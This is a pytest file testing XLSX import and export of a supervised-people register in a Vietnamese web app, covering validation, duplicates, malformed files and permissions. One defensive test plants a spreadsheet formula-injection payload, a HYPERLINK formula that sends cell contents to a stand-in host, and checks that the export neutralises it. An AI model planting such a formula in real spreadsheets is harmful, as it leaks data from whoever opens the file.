"""XLSX list of people: preview, all-or-nothing import, malformed files, export round trip."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from giamsat.core.errors import ValidationFailed
from giamsat.supervision import xlsx
from tests.plugins.api import field_errors
from tests.plugins.supervision import GOOD_ROWS, HEADERS, xlsx_bytes


def _upload(caller, path, data: bytes, unit_id: int, name="danh-sach.xlsx"):
    return caller.post(
        path,
        query_string={"unit_id": unit_id},
        data={"file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def preview(caller, data, unit_id, **kw):
    return _upload(caller, "supervision/people/import/preview", data, unit_id, **kw)


def commit(caller, data, unit_id, **kw):
    return _upload(caller, "supervision/people/import", data, unit_id, **kw)


def test_good_file_previews_then_imports_everyone(world, as_user, people_count, audit_count):
    a = world.alpha
    caller = as_user("alpha", "x-staff")
    data = xlsx_bytes(GOOD_ROWS)
    shown = preview(caller, data, a.commune_x)
    assert shown.status_code == 200, shown.get_json()
    body = shown.get_json()
    assert body["errors"] == [] and body["can_import"] is True
    assert [r["line"] for r in body["rows"]] == [4, 5, 6]  # title, blank, header above
    first, second, third = (r["values"] for r in body["rows"])
    assert (first["tier"], first["management_level"], first["is_party_member"]) == (
        "head",
        "provincial_standing_committee",
        True,
    )
    assert first["residence_area_id"] == a.area_x  # “Thôn Một” matched to the tree
    assert (second["birth_year"], second["tier"]) == (1982, "key_cadre")
    assert "residence_area_id" not in second  # an address, kept as text
    assert (third["birth_year"], third["management_level"], third["is_party_member"]) == (
        None,
        "other",
        False,
    )
    assert people_count() == 0  # a preview writes nothing

    done = commit(caller, data, a.commune_x)
    assert done.status_code == 201, done.get_json()
    assert done.get_json()["imported"] == 3
    assert people_count(unit_id=a.commune_x) == 3
    assert (
        audit_count(
            "alpha", object_type="supervised_people", action="import", actor_label="alpha-x-staff"
        )
        == 3
    )


def test_headers_without_diacritics_and_brackets_are_accepted(world, as_user):
    headers = [
        "stt",
        "Ho va ten",
        "Nam sinh",
        "CHUC VU",
        "Doi tuong (nguoi dung dau/...)",
        "Co quan cong tac",
        "Don vi",
        "Noi cu tru",
        "Dien quan ly",
        "Đảng viên (có/không)",
        "Ghi chu",
    ]
    response = preview(
        as_user("alpha", "x-staff"),
        xlsx_bytes(GOOD_ROWS, headers, title=None),
        world.alpha.commune_x,
    )
    assert response.status_code == 200
    assert response.get_json()["errors"] == []
    assert len(response.get_json()["rows"]) == 3


def test_bad_rows_are_reported_line_by_line_and_nothing_is_imported(world, as_user, people_count):
    rows = [
        *GOOD_ROWS,
        [
            4,
            "Hoàng Văn Em",
            "19x5",
            "Phó Chủ tịch",
            "Cán bộ chủ chốt",
            "UBND xã Đông",
            "",
            "",
            "",
            "có",
            "",
        ],
        [5, "", 1980, "Cán bộ", "Cán bộ, đảng viên", "UBND", "", "", "", "", ""],
        [6, "Vũ Thị Gấm", 1975, "Kế toán", "Lãnh đạo", "UBND xã Đông", "", "", "", "", ""],
        [
            7,
            "Mai Văn Hùng",
            1975,
            "Kế toán",
            "Cán bộ",
            "UBND xã Đông",
            "",
            "",
            "Trung ương",
            "có lẽ",
            "",
        ],
        [8, "Đinh Văn Ích", 2150, "Kế toán", "Cán bộ", "UBND xã Đông", "", "", "", "", ""],
    ]
    caller = as_user("alpha", "x-staff")
    data = xlsx_bytes(rows)
    errors = preview(caller, data, world.alpha.commune_x).get_json()["errors"]
    assert "Dòng 7: năm sinh ‘19x5’ không hợp lệ (cần 4 chữ số, ví dụ 1975)." in errors
    assert "Dòng 8: chưa có họ và tên." in errors
    assert any(e.startswith("Dòng 9: đối tượng ‘Lãnh đạo’ không hợp lệ") for e in errors)
    assert any(e.startswith("Dòng 10: diện quản lý ‘Trung ương’") for e in errors)
    assert any(e.startswith("Dòng 10: cột Đảng viên ghi ‘có lẽ’") for e in errors)
    assert any(e.startswith("Dòng 11: năm sinh phải là năm có 4 chữ số") for e in errors)
    assert len(errors) == 6

    response = commit(caller, data, world.alpha.commune_x)
    assert response.status_code == 422
    assert "chưa nhập người nào" in response.get_json()["message"]
    assert field_errors(response)["file"] == errors
    assert people_count() == 0  # the three good rows were not imported either


def test_duplicates_in_the_file_and_against_the_register(world, as_user, make_person, people_count):
    make_person(full_name="Lê Văn Cường", birth_year=None, workplace_agency="UBND xã Đông")
    rows = [
        *GOOD_ROWS,
        [
            4,
            "NGUYEN VAN AN",
            1970,
            "Bí thư",
            "Người đứng đầu",
            "Đảng ủy xã Đông",
            "",
            "",
            "",
            "có",
            "",
        ],
    ]
    caller = as_user("alpha", "x-staff")
    errors = preview(caller, xlsx_bytes(rows), world.alpha.commune_x).get_json()["errors"]
    assert errors == [
        (
            "Dòng 6: “Lê Văn Cường” đã có trong danh sách giám sát của đơn vị (cùng họ tên, năm "
            "sinh và cơ quan công tác)."
        ),
        "Dòng 7: trùng với dòng 4 (cùng họ tên, năm sinh và cơ quan công tác).",
    ]
    assert commit(caller, xlsx_bytes(rows), world.alpha.commune_x).status_code == 422
    assert people_count() == 1


def _zip_without_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    return out.getvalue()


MALFORMED = {
    "csv": ("STT,Họ và tên,Năm sinh\n1,Nguyễn Văn An,1970\n".encode(), "không phải bảng tính"),
    "renamed binary": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "không phải bảng tính"),
    "zip but not a workbook": (_zip_without_workbook(), "tệp nén"),
    "old xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "Excel cũ (.xls)"),
    "zero bytes": (b"", "tệp rỗng"),
    "empty workbook": (xlsx_bytes([], headers=None, title=None), "Bảng tính trống"),
    "header only": (xlsx_bytes([]), "chỉ có dòng tiêu đề"),
    "no header row": (xlsx_bytes(GOOD_ROWS, headers=None, title=None), "dòng tiêu đề"),
    "missing columns": (
        xlsx_bytes([["Nguyễn Văn An", 1970]], headers=["Họ và tên", "Năm sinh"]),
        "thiếu cột “Chức vụ”, “Đối tượng”, “Cơ quan công tác”",
    ),
    "unknown column": (
        xlsx_bytes([r + ["x"] for r in GOOD_ROWS], headers=HEADERS + ["Lương"]),
        "có cột không nhận ra “Lương”",
    ),
}


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_unreadable_files_get_one_clear_error_and_import_nothing(
    world, as_user, people_count, case
):
    data, expected = MALFORMED[case]
    caller = as_user("alpha", "x-staff")
    for call in (preview, commit):
        response = call(caller, data, world.alpha.commune_x)
        assert response.status_code == 422, (case, response.get_json())
        message = response.get_json()["message"]
        assert expected in message, (case, message)
        assert field_errors(response) == {"file": [message]}
    assert people_count() == 0


def test_missing_file_field_is_422(world, as_user):
    response = as_user("alpha", "x-staff").post(
        "supervision/people/import/preview",
        query_string={"unit_id": world.alpha.commune_x},
        data={},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422


def test_too_many_rows_is_refused(world, as_user, monkeypatch):
    monkeypatch.setattr(xlsx.reading, "MAX_ROWS", 2)
    response = preview(
        as_user("alpha", "x-staff"), xlsx_bytes(GOOD_ROWS * 3), world.alpha.commune_x
    )
    assert response.status_code == 422 and "dài quá 2 dòng" in response.get_json()["message"]


def test_import_respects_roles_and_scope(world, as_user, people_count):
    data = xlsx_bytes(GOOD_ROWS)
    assert commit(as_user("alpha", "x-reader"), data, world.alpha.commune_x).status_code == 403
    assert commit(as_user("alpha", "y-admin"), data, world.alpha.commune_x).status_code == 404
    assert preview(as_user("alpha", "y-admin"), data, world.alpha.commune_x).status_code == 404
    assert people_count() == 0


def test_export_round_trips_through_the_import(world, as_user, people_count):
    a = world.alpha
    staff = as_user("alpha", "x-staff")
    assert commit(staff, xlsx_bytes(GOOD_ROWS), a.commune_x).status_code == 201
    exported = staff.get("supervision/people/export", query_string={"unit_id": a.commune_x})
    assert exported.status_code == 200
    assert exported.mimetype == xlsx.XLSX_MIMETYPE
    assert "attachment" in exported.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(exported.data)).worksheets[0]
    assert [c.value for c in sheet[4]] == HEADERS

    # The same file, re-imported on the same register: every row is a duplicate.
    again = preview(staff, exported.data, a.commune_x).get_json()
    assert len(again["errors"]) == 3 and again["rows"] == []
    # Into another commune by the province admin: the same people, field for field.
    admin = as_user("alpha", "admin")
    assert commit(admin, exported.data, a.commune_y).status_code == 201
    listed = {}
    for unit in (a.commune_x, a.commune_y):
        people = admin.get(
            "supervision/people", query_string={"unit_id": unit, "subtree": "false"}
        ).get_json()
        listed[unit] = sorted(
            (
                p["full_name"],
                p["birth_year"],
                p["position"],
                p["tier"],
                p["workplace_agency"],
                p["workplace_unit"],
                p["management_level"],
                p["is_party_member"],
                p["notes"],
            )
            for p in people
        )
    assert listed[a.commune_x] == listed[a.commune_y]
    assert len(listed[a.commune_y]) == 3
    assert people_count() == 6


def test_template_is_an_empty_list_with_a_guide(world, as_user):
    response = as_user("alpha", "x-reader").get("supervision/people/import/template")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames[:2] == ["Danh sách", "Hướng dẫn"]
    assert [c.value for c in workbook.worksheets[0][4]] == HEADERS
    assert workbook[xlsx.CHOICES_SHEET].sheet_state == "hidden"
    # Filling the template's rows is exactly the import layout.
    sheet = workbook.worksheets[0]
    for row in GOOD_ROWS:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    shown = preview(as_user("alpha", "x-staff"), out.getvalue(), world.alpha.commune_x)
    assert shown.get_json()["errors"] == [] and len(shown.get_json()["rows"]) == 3


def test_a_template_sent_back_empty_says_so(world, tenant_session, principal_of):
    with tenant_session("alpha") as session, pytest.raises(ValidationFailed) as caught:
        xlsx.preview_people_import(
            session,
            principal_of("alpha", "x-staff"),
            unit_id=world.alpha.commune_x,
            fileobj=io.BytesIO(xlsx.template_workbook()),
        )
    assert "chỉ có dòng tiêu đề" in caught.value.message


def test_export_writes_formula_like_text_as_text_and_the_import_reads_it_back(
    world, as_user, make_person
):
    trap = '=HYPERLINK("http://x.example/?"&B5,"Xem")'
    make_person(full_name="Nguyễn Văn Bẫy", notes=trap)
    staff = as_user("alpha", "x-staff")
    exported = staff.get(
        "supervision/people/export", query_string={"unit_id": world.alpha.commune_x}
    )
    sheet = load_workbook(io.BytesIO(exported.data)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + trap in [c.value for c in cells]
    shown = preview(as_user("alpha", "admin"), exported.data, world.alpha.commune_y).get_json()
    assert [r["values"]["notes"] for r in shown["rows"]] == [trap], shown
